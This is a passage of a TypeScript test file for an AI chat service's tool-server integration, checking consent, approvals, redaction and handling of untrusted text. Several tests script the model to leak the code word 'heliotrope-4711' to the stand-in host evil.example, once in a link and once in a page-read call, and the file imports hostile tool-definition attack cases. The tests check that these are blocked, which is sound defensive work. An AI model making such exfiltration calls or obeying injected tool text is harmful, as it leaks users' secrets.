import type { ServerResponse } from "node:http";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from "vitest";
import { checkAiSdkParts, readUiParts } from "#test/support/chat/stream-checks.ts";
import { Client, newIdentity, type ReceivedFrame, readFrames, streamedText } from "#test/support/client.ts";
import {
  errorResponse,
  type Script,
  streamText,
  streamToolCalls,
  type Upstream,
} from "#test/support/models/upstream.ts";
import { createColleague } from "#test/support/people.ts";
import { isFullRun } from "#test/support/run-size.ts";
import { type ScriptedService, startScriptedService } from "#test/support/scripted-service.ts";
import { createMovableClock } from "#test/support/shifted-clock.ts";
import { startAuthorizationServer } from "#test/support/tools/authorization-server.ts";
import { type HostileCase, honestTools, hostileCases, obedientModel } from "#test/support/tools/hostile-tools.ts";
import { type McpServer, startMcpServer, toolDefinition } from "#test/support/tools/mcp-server.ts";
import { startProtectedServer } from "#test/support/tools/protected-server.ts";

const CODE_WORD = "heliotrope-4711";

const SECRET = "Bearer s3cret-token-value";

/** Every attack in every language, or each attack in one language. */
const attacks = isFullRun ? hostileCases : hostileCases.filter((_, index) => index % 8 === 0);

const writeJson = (body: string | Buffer) => (_: unknown, response: ServerResponse) =>
  !!response.writeHead(200, { "content-type": "application/json" }).end(body);

/** Answers after which it is not known whether the call was executed. */
const wrongAnswers: readonly (readonly [string, McpServer["intercept"], RegExp, string])[] = [
  [
    "answers with the id of another request",
    writeJson('{"jsonrpc":"2.0","id":99,"result":{"content":[]}}'),
    /no response to the request.*not known whether/,
    "unknown",
  ],
  ["answers with rubbish", writeJson("<html>"), /not JSON-RPC.*not known whether/, "unknown"],
  ["answers with 10 MB", writeJson(Buffer.alloc(10 * 1_048_576, 32)), /too large.*not known whether/, "unknown"],
];

const clock = createMovableClock();
let upstream: Upstream;
let service: ScriptedService;
let mcp: McpServer;
let client: Client;
let serverId: string;

beforeAll(async () => {
  mcp = await startMcpServer({ authorization: SECRET });
  const env = { WEB_SEARCH_PROVIDER: "searxng", WEB_SEARCH_BASE_URL: new URL(mcp.url).origin };
  service = await startScriptedService({ env, nodeOptions: [clock.nodeOption] });
  ({ upstream } = service);
  mcp.tools = [toolDefinition("read", { title: "Read a file" }), toolDefinition("write")];
});
beforeEach(async () => {
  client = new Client(newIdentity(), service.baseUrl);
  mcp.requests.length = 0;
  const { body } = await client.post("/v1/tools/servers", {
    name: "Files",
    url: mcp.url,
    auth: { type: "header", secret: SECRET },
    tool_modes: { read: "auto" },
    trusted_tools: ["read"],
  });
  serverId = body.id;
});
afterEach(() => {
  mcp.intercept = () => false;
  mcp.call = (_, input) => ({ content: [{ type: "text", text: `file ${input.text}` }] });
});
afterAll(() => Promise.all([service?.stop(), mcp?.stop()]));

const setScripts = (...scripts: readonly Script[]) => {
  upstream.requests.length = 0;
  const pending = [...scripts];
  upstream.script = (response, request) => {
    if (!request.body.tools) return streamText([""])(response, request);
    return (pending.shift() ?? streamText(["Enough."]))(response, request);
  };
};
const change = (changes: object) => client.patch(`/v1/tools/servers/${serverId}`, changes);
const calls = () => mcp.requests.filter(({ message }) => message?.method === "tools/call");
const prompts = () => upstream.requests.filter(({ body }) => body.tools).map(({ body }) => body);
const toolResults = (): string[] =>
  prompts()
    .at(-1)
    ?.messages.filter(({ role }: { role: string }) => role === "tool")
    .map(({ content }: { content: string }) => content) ?? [];
const titlesOf = (frames: readonly ReceivedFrame[], event: string) =>
  frames.filter((frame) => frame.event === event).map(({ data }) => data);

async function createConversation(entry: object = {}): Promise<string> {
  const tool_servers = [{ server_id: serverId, ...entry }];
  const { body: persona } = await client.post("/v1/personas", { name: "Clerk", tool_servers });
  return (await client.post("/v1/conversations", { title: "Files", persona_id: persona.id })).body.id;
}
const chat = async (tier = "THINKING", conversation?: string) =>
  client.chat({ conversation_id: conversation ?? (await createConversation()), content: "Look it up", tier });

/** Sends a message and reads until the run waits for consent. */
async function chatUntilPaused(conversation_id: string, tier = "THINKING") {
  const body = JSON.stringify({ conversation_id, content: "Please", tier });
  const response = await client.fetch("/v1/runtime/chat", {
    method: "POST",
    headers: { "content-type": "application/json" },
    body,
  });
  const stream = readFrames(response);
  const frames: ReceivedFrame[] = [];
  for (let next = await stream.next(); !next.done; next = await stream.next()) {
    frames.push(next.value);
    if (["approval_required", "input_required"].includes(next.value.data.code)) break;
  }
  const { approval_id, message } = frames.at(-1)?.data ?? {};
  return { approval_id, message, messageId: frames[0]?.data.message_id, finish: async () => Array.fromAsync(stream) };
}

/** Adds a server with an attack in its definitions. */
async function createHostileServer({ tools, isChanged }: HostileCase) {
  const honest = mcp.tools;
  mcp.tools = isChanged ? [...honestTools] : [...tools];
  const { body, text } = await client.post("/v1/tools/servers", {
    name: "Files",
    url: mcp.url,
    auth: { type: "header", secret: SECRET },
    tool_modes: {
      read: "auto",
      ...(!tools.includes(honestTools[0] as object) ? {} : { erase: "auto" }),
      pay: "approve",
    },
    trusted_tools: ["read"],
  });
  if (!body.id) throw new Error(text);
  mcp.tools = [...tools];
  const before = isChanged ? (await client.post(`/v1/tools/servers/${body.id}/check`, undefined)).body : body;
  mcp.tools = honest;
  const tool_servers = [{ server_id: body.id }];
  const { body: persona } = await client.post("/v1/personas", { name: "Clerk", tool_servers });
  return { before, server: body.id, persona: persona.id };
}

const readCall = (text: string) => ["files__read", JSON.stringify({ text })] as const;
const writeCall = (text: string) => ["files__write", JSON.stringify({ text })] as const;

it("tool of a server returns a long result whose rest the model reads in a later round, also if call ids repeat", async () => {
  mcp.call = (_, { text }) => ({ content: [{ type: "text", text: `${"x".repeat(30_000)}the end of ${text}` }] });
  const readRest = (result: string) => ["read_result", JSON.stringify({ result, offset: 20_000 })] as const;
  setScripts(
    streamToolCalls(readCall("a")),
    streamToolCalls(readCall("b")),
    streamToolCalls(readRest("1-call_0"), readRest("2-call_0"), readRest("3-call_0")),
    streamText(["Read."]),
  );
  expect(streamedText(await chat("RESEARCH"))).toBe("Read.");
  const [first, second, ...rests] = toolResults();
  expect(first).toContain('read_result with result "1-call_0" and offset 20000');
  expect(second).toContain('read_result with result "2-call_0" and offset 20000');
  expect(first).not.toContain("the end");
  expect(rests).toEqual(["the end of a", "the end of b", "not kept"].map((text) => expect.stringContaining(text)));
  expect(rests[0]).toMatch(/^<tool_result id=/);
  const names = prompts().map(({ tools }) => tools.map((tool: { function: { name: string } }) => tool.function.name));
  expect(names.map((each) => each.includes("read_result"))).toEqual([false, true, true, true]);
});

it("tool of a server is called concurrently with other tools in one round on the tier THINKING, and its result is quoted to the model", async () => {
  let arrived = 0;
  mcp.call = async (_, input) => {
    arrived++;
    await vi.waitFor(() => expect(arrived).toBe(2), { timeout: 180_000 });
    return { content: [{ type: "text", text: `file ${input.text} ${SECRET}\u200b` }] };
  };
  setScripts(streamToolCalls(readCall("a"), readCall("b")), streamText(["Found."]));
  const frames = await chat();
  expect(streamedText(frames)).toBe("Found.");
  expect(prompts().map((body) => body.tool_choice)).toEqual(["auto", "none"]);
  expect(prompts()[0].tools.map(({ function: { name } }: { function: { name: string } }) => name)).toEqual([
    "files__read",
    "files__write",
  ]);
  const [first = "", second = ""] = toolResults();
  expect(first).toMatch(/^<tool_result id="\w+">\n\{"text":"file a \[secret\]"\}\n<\/tool_result/);
  expect(second).toContain("file b");
  const events = titlesOf(frames, "tool_call").map(({ title, status }) => [title, status]);
  expect(events).toEqual([
    ...[1, 2].map(() => ["Files: Read a file", "running"]),
    ...[1, 2].map(() => ["Files: Read a file", "done"]),
  ]);
  expect(titlesOf(frames, "execution_trace")[0].tool_calls).toEqual([
    ...[1, 2].map(() => ({ name: "files__read", status: "done", duration_ms: expect.any(Number) })),
  ]);
  const { headers } = calls()[0] ?? {};
  expect(headers?.authorization).toBe(SECRET);
  const parents = calls().map((call) => String(call.message.params._meta.traceparent).split("-"));
  expect(calls()[0]?.message.params._meta["dev.switchboard/depth"]).toBe(1);
  expect(parents.map((parts) => parts.map(({ length }) => length))).toEqual(parents.map(() => [2, 32, 16, 2]));
  const { operations } = titlesOf(frames, "execution_trace")[0];
  expect(operations.map(({ operation }: { operation: string }) => operation)).toEqual([
    "chat",
    ...[1, 2].map(() => "execute_tool"),
    "chat",
  ]);
  // Pinned definitions that were checked within the hour are not listed again.
  expect(mcp.requests.slice(-2).every((request) => request.message.method === "tools/call")).toBe(true);
});

it("HTTP action of a tool server is sent with the secret of its server", async () => {
  mcp.intercept = ({ method, headers }, response) => {
    if (method !== "GET" || headers.authorization !== SECRET) return false;
    response.writeHead(200, { "content-type": "application/json" }).end('{"price":42,"cost":13}');
    return true;
  };
  const action = { name: "price", description: "Returns a price.", method: "GET", path: "/prices/{id}" };
  const { status, body } = await client.post("/v1/tools/servers", {
    name: "Shop",
    kind: "http",
    url: mcp.url,
    auth: { type: "header", secret: SECRET },
    mode: "auto",
    actions: [{ ...action, input_schema: { properties: { id: { type: "string" } }, required: ["id"] } }],
    response_pointers: { price: ["/price"] },
  });
  expect([status, body.tools[0].status]).toEqual([201, "approved"]);
  setScripts(streamToolCalls(["shop__price", '{"id":"7"}'], ["shop__price", "{}"]), streamText(["42."]));
  serverId = body.id;
  expect(streamedText(await chat())).toBe("42.");
  expect(toolResults()).toEqual([
    expect.stringContaining('{"structured":{"/price":42}}'),
    expect.stringContaining("must have id"),
  ]);
});

it("tool of a server is not offered on the tier QUICK, in a conversation without the persona, or when its server is disabled", async () => {
  setScripts();
  await chat("QUICK");
  await client.chat({ conversation_id: await client.createConversation(), content: "Hi", tier: "THINKING" });
  await change({ enabled: false });
  await chat();
  expect(prompts()).toEqual([]);
  const { status } = await client.post("/v1/personas", {
    name: "x",
    tool_servers: [{ server_id: client.identity.user }],
  });
  expect(status).toBe(404);
});

/** Publishes a persona with the server's tools, and returns a function that requests completions of it. */
async function publish(fields: object, entry: object = {}) {
  const tool_servers = [{ server_id: serverId, ...entry }];
  const { body: persona } = await client.post("/v1/personas", { name: "Clerk", tool_servers, ...fields });
  const { body: published } = await client.post(`/v1/personas/${persona.id}/publish`, {
    slug: persona.id.toLowerCase(),
  });
  const { body: key } = await client.post(
    "/v1/tenant/api-keys",
    { description: "test", scopes: ["chat.completions"] },
    { "idempotency-key": persona.id },
  );
  return async (body: object, path = "/openai/v1/chat/completions") => {
    const response = await fetch(service.baseUrl + path, {
      method: "POST",
      headers: { "content-type": "application/json", authorization: `Bearer ${key.key}` },
      body: JSON.stringify({
        model: published.endpoint.slug,
        ...(path.endsWith("completions") && { messages: [{ role: "user", content: "Look it up" }] }),
        ...body,
      }),
    });
    return { response, text: await response.text() };
  };
}

const callerTool = (name: string) => ({ type: "function", function: { name, parameters: { type: "object" } } });
const usageOf = (total: number) => ({ prompt_tokens: total - 5, completion_tokens: 5, total_tokens: total });
const lookup = ["lookup", "{}"] as const;

it.each([true, false])(
  "tool of a server is executed for an API client, which executes its own tools itself (streamed: %s)",
  async (stream) => {
    const ask = await publish({ tier: "RESEARCH", api_tools: true });
    setScripts(streamToolCalls(readCall("a"), lookup), streamToolCalls(lookup, readCall("b")), streamToolCalls(lookup));
    const { text } = await ask({ stream, tools: [callerTool("lookup"), callerTool("files__write")] });
    const [first, second] = prompts();
    const names = first.tools.map((tool: { function: { name: string } }) => tool.function.name);
    expect(names).toEqual(["lookup", "files__write", "files__read"]);
    const [system, user, assistant, result] = second.messages;
    expect([system.role, user.content, assistant.tool_calls.length]).toEqual(["system", "Look it up", 1]);
    expect(system.content).toContain("is a quotation");
    expect(assistant.tool_calls[0].function).toEqual({ name: "files__read", arguments: '{"text":"a"}' });
    expect([result.role, result.tool_call_id]).toEqual(["tool", "call_0"]);
    expect(result.content).toMatch(/^<tool_result id="\w+">\n\{"text":.*a.*\n<\/tool_result/);
    expect(calls().map(({ message }) => message.params.arguments.text)).toEqual(["a", "b"]);
    const lines = stream ? [...text.matchAll(/^data: (\{.*)$/gm)].map(([, json]) => JSON.parse(json as string)) : [];
    const choices = stream ? lines.flatMap((line) => line.choices) : JSON.parse(text).choices;
    const received = choices.flatMap((choice: { delta?: object; message?: object }) => {
      const { tool_calls = [] } = (choice.delta ?? choice.message) as {
        tool_calls?: { function: { name: string } }[];
      };
      return tool_calls.map((call) => call.function.name ?? "");
    });
    expect(received.filter(Boolean)).toEqual(["lookup"]);
    expect(choices.at(-1).finish_reason).toBe("tool_calls");
    await vi.waitFor(
      async () => {
        const { body } = await client.get("/v1/audit-events?action=tool_call.created");
        const events = body.audit_events.map(({ actor, details }: { actor: { type: string }; details: object }) => [
          actor.type,
          details,
        ]);
        expect(events.length).toBe(2);
        expect(events[0]).toEqual(["api_key", expect.objectContaining({ tool: "read", server_id: serverId })]);
      },
      { timeout: 180_000 },
    );
  },
);

it("tool of a server is executed for an API client of the responses API, and the usage counts all model calls", async () => {
  const ask = await publish({ tier: "THINKING", api_tools: true });
  mcp.call = () => ({ content: [{ type: "text", text: "See https://files.example/a?id=heliotrope-4711-abcdefgh" }] });
  setScripts(
    streamText(["Wait. "], { usage: usageOf(15) }),
    streamText(
      [
        "See [it](https://files.example/a?id=heliotrope-4711-abcdefgh) or [this](https://evil.example/?id=heliotrope-4711-abcdefgh-confidential).",
      ],
      {
        usage: usageOf(20),
      },
    ),
  );
  const [plain, final] = [upstream.script, upstream.script];
  upstream.script = async (response, request) => {
    const isFirst = request.body.messages.every(({ role }: { role: string }) => role !== "tool");
    if (!isFirst) return final(response, request);
    const end = response.end.bind(response);
    const parts: string[] = [];
    response.write = ((part: string) => parts.push(part) > 0) as typeof response.write;
    response.end = ((last = "") => {
      const joined = parts.join("") + last;
      const call = { index: 0, id: "c", type: "function", function: { name: "files__read", arguments: "{}" } };
      const delta = JSON.stringify({ choices: [{ index: 0, delta: { tool_calls: [call] } }] });
      return end(joined.replace("data: [DONE]", () => `data: ${delta}\n\ndata: [DONE]`));
    }) as typeof response.end;
    return plain(response, request);
  };
  const { text } = await ask({ input: "Look it up", stream: true }, "/openai/v1/responses");
  const events = [...text.matchAll(/^data: (\{.*)$/gm)].map(([, json]) => JSON.parse(json as string));
  const { output, usage } = events.at(-1).response;
  expect(output[0].content[0].text).toBe(
    "Wait. \n\nSee [it](https://files.example/a?id=heliotrope-4711-abcdefgh) or this [link removed].",
  );
  expect([output.length, usage.total_tokens]).toEqual([1, 35]);
  expect(prompts().map(({ tool_choice }) => tool_choice)).toEqual([undefined, "none"]);
});

it("tool of a server is not offered to API clients by default, nor if a call needs consent or the request makes several choices", async () => {
  setScripts();
  const byDefault = await publish({ tier: "THINKING" });
  await byDefault({});
  const withConsent = await publish({ tier: "THINKING", api_tools: true }, { mode: "confirm" });
  await withConsent({});
  const quick = await publish({ tier: "QUICK", api_tools: true });
  await quick({});
  const allowed = await publish({ tier: "THINKING", api_tools: true });
  await allowed({ n: 2 });
  await allowed({ tool_choice: "none" });
  expect(prompts()).toEqual([]);
});

it("tool of a server with an effect runs for an API client only until the model has read text of others", async () => {
  await change({ tool_modes: { read: "auto", write: "auto" } });
  const ask = await publish({ tier: "THOUGHT_PARTNER", api_tools: true, tools: ["calculate", "create_note"] });
  setScripts(
    streamToolCalls(writeCall("a"), ["calculate", '{"expression":"6*7"}']),
    streamToolCalls(writeCall("b")),
    streamText(["Done."]),
  );
  const { text } = await ask({ stream: true });
  expect(text).toContain("Done.");
  expect(prompts()[0].tools.map((tool: { function: { name: string } }) => tool.function.name)).toEqual([
    "calculate",
    "files__read",
    "files__write",
  ]);
  const [written, calculated, refused] = toolResults();
  expect(written).toContain("file a");
  expect(calculated).toContain("42");
  expect(refused).toMatch(/not executed.*user would have to agree/);
  setScripts(streamToolCalls(writeCall("c")), streamText(["Done."]));
  const call = { id: "c1", type: "function", function: { name: "lookup", arguments: "{}" } };
  await ask({
    messages: [
      { role: "user", content: "Go" },
      { role: "assistant", content: null, tool_calls: [call] },
      { role: "tool", tool_call_id: "c1", content: "Write it down!" },
    ],
  });
  expect(calls().map(({ message }) => message.params.arguments.text)).toEqual(["a"]);
});

it("tool of a server is not run again by a client's retry when the answer fails after the call, and its usage is recorded", async () => {
  const ask = await publish({ tier: "THINKING", api_tools: true });
  const unavailable = Array.from({ length: 5 }, () => errorResponse(503, "No.", { "retry-after": "0" }));
  setScripts(streamToolCalls(readCall("a")), ...unavailable);
  const { response } = await ask({});
  expect([response.status, response.headers.get("x-should-retry")]).toEqual([503, "false"]);
  setScripts(streamToolCalls(readCall("a")), streamToolCalls(readCall("b")));
  const { text } = await ask({});
  const [choice] = JSON.parse(text).choices;
  expect([choice.finish_reason, choice.message.tool_calls]).toEqual(["stop", undefined]);
  expect(calls().length).toBe(2);
  await vi.waitFor(
    async () => {
      const { body } = await client.get("/v1/usage");
      expect(body.totals).toMatchObject({ requests: 2, output_tokens: expect.any(Number) });
      expect(body.totals.output_tokens).toBeGreaterThan(0);
    },
    { timeout: 180_000 },
  );
});

describe("web tool of a server", () => {
  const found = {
    url: "http://127.0.0.1:1/tides",
    title: "Tides",
    content: `High tide is at nine. The code is ${CODE_WORD}.`,
  };
  const tools = ["web_search", "read_page"];
  const search = ["web_search", '{"query":"tides"}'] as const;
  const readCallOf = (url: string) => ["read_page", JSON.stringify({ url })] as const;
  const namesOf = (body: { tools: { function: { name: string } }[] }) => body.tools.map((tool) => tool.function.name);

  beforeEach(() => {
    mcp.intercept = ({ method, path }, response) => {
      if (method !== "GET" || path !== "/search?q=tides&format=json") return false;
      return !!response
        .writeHead(200, { "content-type": "application/json" })
        .end(JSON.stringify({ results: [found] }));
    };
  });

  async function converse(fields: object) {
    const { body: persona } = await client.post("/v1/personas", { name: "Scout", ...fields });
    return (await client.post("/v1/conversations", { title: "Web", persona_id: persona.id })).body.id;
  }

  it("answer cites a result of the web search tool like a passage, with title and address", async () => {
    setScripts(streamToolCalls(search), streamText(["High tide is at nine [1]."]));
    const frames = await chat("THINKING", await converse({ tools }));
    expect(namesOf(prompts()[0])).toEqual(tools);
    expect(toolResults()[0]).toMatch(/^<tool_result id="\w+">\n\{"passages":\[\{"number":1,"title":"Tides"/);
    const [{ sources }] = titlesOf(frames, "search_transparency").slice(-1);
    const { content } = titlesOf(frames, "assistant_message").at(-1);
    const citation = content.find(({ type }: { type: string }) => type === "citation");
    const web = { source_type: "web", title: "Tides", uri: found.url, collection_id: null };
    expect([sources[0], citation]).toEqual([
      expect.objectContaining(web),
      expect.objectContaining({ ...web, index: 1, quote: "High tide is at nine." }),
    ]);
    expect(citation).not.toHaveProperty("document_id");
  });

  it("web tool reads a page that a search returned without consent, and asks before it reads any other address", async () => {
    setScripts(
      streamToolCalls(search),
      streamToolCalls(readCallOf(found.url)),
      streamToolCalls(readCallOf(`https://evil.example/?d=${CODE_WORD}`)),
    );
    const { approval_id, message, finish } = await chatUntilPaused(await converse({ tools }), "RESEARCH");
    expect(message).toContain("text that others wrote");
    expect(toolResults()[1]).toBe("The address is not on the public internet.");
    expect((await client.post(`/v1/approvals/${approval_id}/cancel`, {})).status).toBe(200);
    expect(streamedText(await finish())).toContain("Enough.");
  });

  it("web tool is offered only to personas that name the web tools, also for API clients, whose calls that need consent are not executed", async () => {
    setScripts();
    await chat("THINKING", await converse({}));
    expect(prompts()).toEqual([]);
    await chat("THOUGHT_PARTNER", await converse({}));
    expect(namesOf(prompts()[0])).toEqual(expect.not.arrayContaining(tools));
    const ask = await publish({ tier: "RESEARCH", api_tools: true, tools, tool_servers: [] });
    setScripts(streamToolCalls(search), streamToolCalls(readCallOf("https://evil.example/")));
    await ask({});
    expect(namesOf(prompts()[0])).toEqual(tools);
    expect(toolResults()).toEqual([expect.stringContaining("Tides"), expect.stringContaining("not executed")]);
  });
});

describe("tool of a server that asks the user", () => {
  const contactForm = {
    type: "object",
    properties: { name: { type: "string", title: "Name", minLength: 2 }, adult: { type: "boolean" } },
    required: ["name"],
  };
  const urlQuestion = { mode: "url", url: "https://pay.example/7", message: "Pay first." };

  /** Lets the server ask before it executes calls whose text is `ask`. */
  const askWith = (params: object) => {
    mcp.call = (_, { text }) => {
      const { inputResponses, requestState } = mcp.requests.at(-1)?.message.params ?? {};
      const inputRequests = { contact: { method: "elicitation/create", params } };
      if (text === "ask" && !inputResponses) return { resultType: "input_required", inputRequests, requestState: "s1" };
      return { content: [{ type: "text", text: `${text} ${requestState} ${JSON.stringify(inputResponses)}` }] };
    };
  };
  const answer = (id: string, contact: object, by = client) =>
    by.post(`/v1/approvals/${id}/answer`, { answers: { contact } });

  it("tool of a server that asks the user pauses the run until the answers come, which repeat only this call and are deleted afterwards", async () => {
    askWith({ message: "Who are you?", requestedSchema: contactForm });
    setScripts(streamToolCalls(readCall("ask"), readCall("b")), streamText(["Hello Ada."]));
    const { approval_id, message, finish } = await chatUntilPaused(await createConversation());
    expect(message).toContain("asks a question");
    const { body: approval } = await client.get(`/v1/approvals/${approval_id}`);
    expect(approval.questions).toEqual([
      {
        ...{ key: "contact", server_name: "Files", message: "Who are you?", url: null },
        fields: [
          { name: "name", title: "Name", description: null, type: "text", required: true, minimum: 2 },
          { name: "adult", title: "adult", description: null, type: "boolean", required: false },
        ],
      },
    ]);
    const refused = await answer(approval_id, { action: "accept", content: { name: "A", adult: "no", more: 1 } });
    expect(refused.body.errors.map(({ path }: { path: string }) => path)).toEqual([
      "answers.contact.content.more",
      "answers.contact.content.name",
      "answers.contact.content.adult",
    ]);
    const colleague = await createColleague(client, "admin");
    expect((await answer(approval_id, { action: "decline" }, colleague)).status).toBe(403);
    expect((await client.post(`/v1/approvals/${approval_id}/confirm`, { decision: "approve" })).status).toBe(409);
    const accepted = await answer(approval_id, { action: "accept", content: { name: "Ada" } });
    expect([accepted.status, accepted.body.status]).toEqual([200, "approved"]);
    expect(streamedText(await finish())).toBe("Hello Ada.");
    const [other, own] = toolResults();
    expect([other, own]).toEqual([
      expect.stringContaining("b undefined undefined"),
      expect.stringMatching(/ask s1 .*accept.*Ada|ask s1 .*Ada.*accept/),
    ]);
    const sent = calls().map(({ message: { params } }) => `${params.arguments.text} ${params.requestState}`);
    expect(sent.toSorted()).toEqual(["ask s1", "ask undefined", "b undefined"]);
    const key = "io.modelcontextprotocol/clientCapabilities";
    expect(calls()[0]?.message.params._meta[key]).toEqual({ elicitation: { form: {}, url: {} } });
    expect(JSON.stringify((await client.get(`/v1/approvals/${approval_id}`)).body)).not.toContain("Ada");
    expect((await answer(approval_id, { action: "decline" })).status).toBe(409);
  });

  it("tool of a server that asks the user is called again when the user declines, but not when the user cancels the call", async () => {
    askWith(urlQuestion);
    setScripts(streamToolCalls(readCall("ask")), streamText(["Declined."]));
    const declined = await chatUntilPaused(await createConversation());
    const { body } = await client.get(`/v1/approvals/${declined.approval_id}`);
    expect(body.questions).toMatchObject([{ url: "https://pay.example/7", fields: [] }]);
    expect((await answer(declined.approval_id, { action: "decline" })).body.status).toBe("denied");
    expect(streamedText(await declined.finish())).toBe("Declined.");
    expect(toolResults()[0]).toContain("decline");
    setScripts(streamToolCalls(readCall("ask")), streamText(["Canceled."]));
    const canceled = await chatUntilPaused(await createConversation());
    await client.post(`/v1/approvals/${canceled.approval_id}/cancel`, {});
    expect(streamedText(await canceled.finish())).toBe("Canceled.");
    expect(toolResults()).toEqual(["The user canceled this tool call."]);
    expect(calls().length).toBe(3);
  });

  it("tool of a server fails when it asks the user for a secret, or asks a question in a call of an API client without a user", async () => {
    askWith({
      message: "Log in.",
      requestedSchema: { type: "object", properties: { password: { type: "string" } } },
    });
    setScripts(streamToolCalls(readCall("ask")), streamText(["No."]));
    expect(streamedText(await chat())).toBe("No.");
    expect(toolResults()[0]).toContain("asks for a secret");
    askWith(urlQuestion);
    const ask = await publish({ tier: "THINKING", api_tools: true });
    setScripts(streamToolCalls(readCall("ask")), streamText(["No."]));
    await ask({});
    expect(toolResults()[0]).toContain("not supported here");
    expect(calls().at(-1)?.message.params._meta["io.modelcontextprotocol/clientCapabilities"]).toEqual({});
  });
});

it.each([
  ["approve", "tool-output-available"],
  ["deny", "tool-output-denied"],
])(
  "call of a tool is one part with its request for approval and its result for user interfaces when the user answers %s",
  async (decision, end) => {
    setScripts(streamToolCalls(writeCall("x")), streamText(["Finished."]));
    const { approval_id, messageId, finish } = await chatUntilPaused(await createConversation());
    await client.post(`/v1/approvals/${approval_id}/confirm`, { decision });
    await finish();
    const response = await client.fetch(`/v1/runtime/chat/${messageId}/stream`, {
      headers: { accept: "text/event-stream; protocol=ai-sdk" },
    });
    const parts = readUiParts(await response.text());
    checkAiSdkParts(parts);
    const own = parts.filter(({ type }) => type.startsWith("tool-"));
    expect(new Set(own.map(({ toolCallId }) => toolCallId)).size).toBe(1);
    expect(own[0]).toMatchObject({ type: "tool-input-available", input: { text: "x" } });
    expect(own[1]).toMatchObject({ type: "tool-approval-request", approvalId: approval_id });
    expect(own.at(-1)?.type).toBe(end);
  },
);

it("tool of a server in the mode confirm is called once, after the user who asked has confirmed the call", async () => {
  setScripts(streamToolCalls(writeCall("x")), streamText(["Written."]));
  const { approval_id, message, finish } = await chatUntilPaused(await createConversation());
  expect(message).toContain("asks to use this tool");
  expect(calls()).toEqual([]);
  const { body: approval } = await client.get(`/v1/approvals/${approval_id}`);
  expect(approval).toMatchObject({ decider: "requester", reason: "Files: write", action: { params: { text: "x" } } });
  await client.post(`/v1/approvals/${approval_id}/confirm`, { decision: "approve" });
  expect(streamedText(await finish())).toBe("Written.");
  expect(calls().map((call) => call.message.params)).toMatchObject([{ name: "write", arguments: { text: "x" } }]);
  expect((await client.get(`/v1/approvals/${approval_id}`)).body.result).toEqual({ status: "done" });
});

it("tool of a server is not confirmed again when the user's consent is remembered for the conversation", async () => {
  const conversation = await createConversation();
  setScripts(streamToolCalls(writeCall("x")), streamText(["Written."]));
  const { approval_id, finish } = await chatUntilPaused(conversation);
  const remember = "always";
  await client.post(`/v1/approvals/${approval_id}/confirm`, { decision: "approve", remember });
  await finish();
  const { body } = await client.get("/v1/tools/consents");
  expect(body.consents).toMatchObject([{ server_id: serverId, tool: "write", conversation_id: null }]);
  // By default, the server allows no consent beyond a conversation.
  setScripts(streamToolCalls(writeCall("y")));
  const again = await chatUntilPaused(conversation);
  await client.post(`/v1/approvals/${again.approval_id}/confirm`, { decision: "approve", remember: "conversation" });
  await again.finish();
  const fresh = await client.get(`/v1/conversations/${conversation}`);
  const other = (await client.post("/v1/conversations", { title: "Other", persona_id: fresh.body.persona_id })).body.id;
  setScripts(streamToolCalls(writeCall("z")));
  const canceled = await chatUntilPaused(other);
  await client.post(`/v1/approvals/${canceled.approval_id}/cancel`, {});
  // The canceled run calls the model once more.
  await canceled.finish();
  await change({ remember: "always" });
  setScripts(streamToolCalls(writeCall("z")), streamText(["Written."]));
  const third = (await client.post("/v1/conversations", { title: "Third", persona_id: fresh.body.persona_id })).body.id;
  expect(streamedText(await chat("THINKING", third))).toBe("Written.");
  expect(calls().map((call) => call.message.params.arguments.text)).toEqual(["x", "y", "z"]);
  await client.delete("/v1/tools/consents");
  setScripts(streamToolCalls(writeCall("z")));
  const last = (await client.post("/v1/conversations", { title: "Last", persona_id: fresh.body.persona_id })).body.id;
  expect((await chatUntilPaused(last)).approval_id).toBeTruthy();
});

it("consent that is remembered for a conversation covers calls after results of the same server, but not after other text", async () => {
  await change({ tool_modes: { read: "auto", write: "confirm" }, trusted_tools: [] });
  const conversation = await createConversation();
  setScripts(streamToolCalls(writeCall("x")), streamText(["Written."]));
  const first = await chatUntilPaused(conversation);
  expect((await client.get(`/v1/approvals/${first.approval_id}`)).body.remember).toBe("conversation");
  const decision = { decision: "approve", remember: "conversation" };
  await client.post(`/v1/approvals/${first.approval_id}/confirm`, decision);
  await first.finish();
  // In a later turn, and after a result in the same one.
  setScripts(streamToolCalls(writeCall("y")), streamToolCalls(writeCall("z")), streamText(["Written."]));
  expect(streamedText(await chat("RESEARCH", conversation))).toBe("Written.");
  expect(calls().map((call) => call.message.params.arguments.text)).toEqual(["x", "y", "z"]);
  // Also a tool that needs consent only after untrusted text.
  setScripts(streamToolCalls(readCall("r")), streamText(["Read."]));
  const read = await chatUntilPaused(conversation);
  await client.post(`/v1/approvals/${read.approval_id}/confirm`, decision);
  await read.finish();
  setScripts(streamToolCalls(readCall("s")), streamText(["Read."]));
  expect(streamedText(await chat("THINKING", conversation))).toBe("Read.");
  await client.post("/v1/notes", { title: "Tide", body: "By others.", conversation_id: conversation });
  setScripts(streamToolCalls(writeCall("n")));
  const other = await chatUntilPaused(conversation);
  expect(other.message).toContain("after reading text that others wrote");
  expect((await client.get(`/v1/approvals/${other.approval_id}`)).body.remember).toBeUndefined();
  await client.post(`/v1/approvals/${other.approval_id}/cancel`, {});
  await other.finish();
});

it("remembered consent can be withdrawn alone", async () => {
  await change({ remember: "always" });
  for (const remember of ["conversation", "always"]) {
    setScripts(streamToolCalls(writeCall("x")), streamText(["Written."]));
    const { approval_id, finish } = await chatUntilPaused(await createConversation());
    await client.post(`/v1/approvals/${approval_id}/confirm`, { decision: "approve", remember });
    await finish();
  }
  const { consents } = (await client.get("/v1/tools/consents")).body;
  const [withdrawn, kept] = consents as [{ id: string }, { id: string }];
  await client.delete(`/v1/tools/consents?id=${encodeURIComponent(withdrawn.id)}`);
  expect((await client.get("/v1/tools/consents")).body.consents).toEqual([kept]);
});

it("tool of a server needs the approval of another user in the mode approve, which a persona can set but not weaken", async () => {
  const colleague = await createColleague(client, "admin");
  setScripts(streamToolCalls(readCall("x")), streamText(["Read."]));
  const { approval_id, finish } = await chatUntilPaused(await createConversation({ mode: "approve" }));
  expect((await client.post(`/v1/approvals/${approval_id}/confirm`, { decision: "approve" })).status).toBe(403);
  expect(calls()).toEqual([]);
  const schemaFor = async (reader: Client) => (await reader.get(`/v1/approvals/${approval_id}`)).body.input_schema;
  expect(await schemaFor(colleague)).toMatchObject({ type: "object", properties: { text: { type: "string" } } });
